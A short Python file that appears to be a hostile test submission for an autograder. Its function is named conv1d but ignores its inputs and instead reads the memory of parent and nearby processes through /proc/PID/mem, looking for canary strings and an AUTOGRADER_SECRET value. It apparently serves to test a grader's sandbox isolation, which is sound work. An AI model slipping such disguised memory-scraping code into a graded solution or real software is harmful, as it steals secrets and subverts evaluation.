"""Searches the memory of its parents through /proc/PID/mem."""

ATTEMPTS = "secrets: parents memory"

import os
import re


# A pattern that does not match itself, so that it finds nothing but what was there before.
CANARY = re.compile(rb"autograder-hostile-[c]anary[-\w]*|AUTOGRADER_SECRE[T]=\w+")


def search(pid):
    """What stands around the words in a process's memory."""
    loot = []
    try:
        with (
            open(f"/proc/{pid}/maps") as maps,
            open(f"/proc/{pid}/mem", "rb", buffering=0) as memory,
        ):
            for line in maps:
                span, access = line.split()[:2]
                start, end = (int(part, 16) for part in span.split("-"))
                if "rw" not in access or end - start > 2**28:
                    continue
                try:
                    memory.seek(start)
                    content = memory.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                loot.extend(f"{pid}: {found!r}" for found in set(CANARY.findall(content)))
    except OSError as error:
        loot.append(f"{pid}: {error.strerror}")
    return loot


def conv1d(signal, kernel, stride=1, pad=0):
    loot = [
        found for pid in sorted({os.getppid(), 1, os.getpid() - 1} - {0}) for found in search(pid)
    ]
    print(*loot, sep="\n")
    return " ".join(loot)
